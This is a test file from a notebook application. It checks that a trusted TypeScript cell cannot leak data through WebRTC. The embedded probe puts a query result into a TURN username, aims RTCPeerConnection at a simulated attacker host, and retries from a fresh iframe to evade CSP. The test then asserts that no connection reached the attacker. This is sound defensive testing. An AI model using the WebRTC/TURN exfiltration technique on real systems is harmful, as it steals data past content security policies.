/**
 * WebRTC is outside CSP's reach: `connect-src 'none'` does not stop an RTCPeerConnection from
 * contacting a TURN server, whose allocation request carries a username the cell chooses. A trusted
 * TS cell must still not reach another machine that way (issue #14: nothing leaves the machine).
 * The attacker counts TCP connections, since a TURN allocation is not an HTTP request.
 */
import { expect, test } from 'vitest';
import { cell, hostileSession, openTrusted } from './notebook-helpers';
import { notebookIdle as idle } from './app-helpers';

const session = hostileSession();

test('a trusted TS cell cannot open a WebRTC connection, even from a fresh frame it makes', async () => {
  const page = await session.start();
  const { app, attacker } = session;
  const turn = `turn:${new URL(attacker.url).host}?transport=tcp`;
  const probe = `const leak = (await sql\`SELECT 42 AS n\`)[0].n;
const out: string[] = [];
const tryRtc = async (name: string, make: () => any) => {
  try {
    const Pc = make();
    const pc = new Pc({ iceServers: [{ urls: '${turn}', username: 'leak-' + leak, credential: 'x' }], iceTransportPolicy: 'relay' });
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    await new Promise((r) => setTimeout(r, 1500));
    out.push(name + ': ok');
  } catch (e) {
    out.push(name + ': blocked');
  }
};
await tryRtc('global', () => (globalThis as any).RTCPeerConnection ?? (globalThis as any).webkitRTCPeerConnection);
await tryRtc('frame', () => {
  const f = document.createElement('iframe');
  document.body.appendChild(f);
  return (f.contentWindow as any).RTCPeerConnection;
});
return out.join('; ');`;
  const text = `---\ntitle: WebRTC\n---\n\n\`\`\`ts id=p name=p\n${probe}\n\`\`\`\n`;
  await openTrusted(page, text);
  await idle(page);
  await expect.poll(() => cell(page, 'p').getAttribute('data-status'), { timeout: 30_000 }).toMatch(/done|error/);
  await page.waitForTimeout(1000);
  expect(attacker.connections()).toBe(0);
  expect(attacker.hits).toEqual([]);
  expect(app.offOrigin).toEqual([]);
});
